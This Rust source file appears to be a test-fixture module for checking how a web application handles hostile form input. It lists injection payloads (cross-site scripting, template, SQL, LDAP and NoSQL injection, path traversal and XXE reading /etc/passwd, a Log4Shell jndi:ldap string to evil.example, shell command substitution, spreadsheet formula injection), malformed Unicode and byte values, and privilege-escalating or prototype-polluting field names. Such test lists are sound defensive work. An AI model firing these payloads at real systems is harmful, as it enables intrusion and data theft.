//! What people and programs send that nobody expected.

/// Texts that become something else where they are not escaped: markup, templates, statements, headers, paths.
pub const INJECTIONS: [&str; 58] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><iframe src=javascript:alert(1)>",
    "</style><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "<input type=hidden name=csrf value=x>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<style>*{display:none}</style>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<details open ontoggle=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;&quot;&apos;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
    "{{7*7}}",
    "{{ self }}{% include \"/etc/passwd\" %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{ $name }",
    "{ -brand } { NUMBER(7) }",
    "' OR '1'='1",
    "'; DROP TABLE entry; --",
    "\"; DELETE FROM session; --",
    "1; SELECT pg_sleep(10)--",
    "' UNION SELECT bundle FROM account --",
    "?1 $1 :name @p",
    "\\'; SELECT 1; --",
    "%' AND 1=1 AND '%'='",
    "admin'--",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "x%0d%0aSet-Cookie: evil=1",
    "=HYPERLINK(\"https://evil.example\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "$(id)`id`|id;id&id",
    "%s%s%n%x",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    "{\"$ne\": null}",
    "*)(uid=*))(|(uid=*",
    "${jndi:ldap://evil.example/a}",
    "null undefined NaN true false 0 -0",
];

/// Values no field takes, or none but a text: by what is wrong with them, and their bytes.
pub fn broken() -> Vec<(&'static str, Vec<u8>)> {
    let text = |label, text: &str| (label, text.as_bytes().to_vec());
    vec![
        text("nul", "a\0b"),
        text("control", "a\u{1}b"),
        text("backspace", "abc\u{8}\u{8}\u{8}"),
        text("vertical tab", "a\u{b}b\u{c}"),
        text("terminal", "\u{1b}[31mred\u{1b}]0;x\u{7}"),
        text("delete", "a\u{7f}b"),
        text("c1 control", "a\u{85}b\u{9b}31m"),
        text("right to left override", "a\u{202e}gpj.exe"),
        text("isolates", "\u{2066}a\u{2069}\u{2067}b"),
        text("embedding", "\u{202a}\u{202b}x\u{202c}\u{202d}"),
        ("bytes of no text", b"a\xffb".to_vec()),
        ("a sequence cut short", b"caf\xc3".to_vec()),
        ("a sequence that is none", b"\xc3\x28".to_vec()),
        ("a surrogate as bytes", b"\xed\xa0\x80x".to_vec()),
        ("beyond unicode", b"\xf4\x90\x80\x80".to_vec()),
        ("an overlong slash", b"\xc0\xaf\xe0\x80\xaf".to_vec()),
        text("replacement", "a\u{fffd}b"),
        text(
            "header injection",
            "a\r\nSet-Cookie: evil=1\r\n\r\n<script>",
        ),
        text("31 February", "31/02/2026"),
        text("year 0", "0000"),
        text("year 10000", "10000"),
        text("a negative year", "-2026"),
        text("a huge number", "99999999999999999999999999999999"),
        text("a negative number", "-9223372036854775809"),
        text("an exponent", "1e999"),
        text("not a number", "NaN"),
        text("hexadecimal", "0x7fffffff"),
        text("figures of another script", "\u{0663}\u{0661}"),
        text("wide figures", "\u{ff11}\u{ff12}"),
        text("only spaces", " \t\u{a0}\u{2003} "),
        text("marks upon marks", &format!("Z{}", "\u{0301}".repeat(500))),
        text("no characters", "\u{fffe}\u{ffff}\u{1fffe}"),
        text("joined pictures", "👩‍👩‍👧‍👦🏴‍☠️"),
        ("too long", vec![b'x'; 21_000]),
        text("too long in letters of four bytes", &"𐍈".repeat(9_000)),
        text("many lines", &"a\n".repeat(1_200)),
    ]
}

/// Everything for a field of a page: the injections two by two.
pub fn for_pages() -> Vec<(&'static str, Vec<u8>)> {
    let injections = INJECTIONS
        .chunks(2)
        .map(|two| (two[0], two.join(" ").into_bytes()));
    broken().into_iter().chain(injections).collect()
}

/// The same with a character that no text takes, so that a form comes back whatever else is in it.
pub fn never_taken(value: &[u8]) -> Vec<u8> {
    let refused = |c: char| {
        (c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{fffd}')
    };
    let already = std::str::from_utf8(value).is_ok_and(|text| !text.contains(refused));
    if already {
        [value, b"\x01"].concat()
    } else {
        value.to_vec()
    }
}

/// Members and inputs that no form has and somebody might hope it has.
pub const HOPED_FOR: [(&str, &str); 18] = [
    ("id", "0123456789abcdef0123456789abcdef"),
    ("case", "0123456789abcdef0123456789abcdef"),
    ("stage", "decided"),
    ("holder", "0123456789abcdef0123456789abcdef"),
    ("offer", "x"),
    ("referred-by", "x"),
    ("places", "0"),
    ("actor", "0123456789abcdef0123456789abcdef"),
    ("seq", "1"),
    ("version", "1"),
    ("at-ms", "0"),
    ("roles", "administrator"),
    ("group", "roc-o"),
    ("status", "active"),
    ("confirmed", "yes"),
    ("verdict", "approved"),
    ("__proto__", "x"),
    ("constructor[prototype][x]", "x"),
];
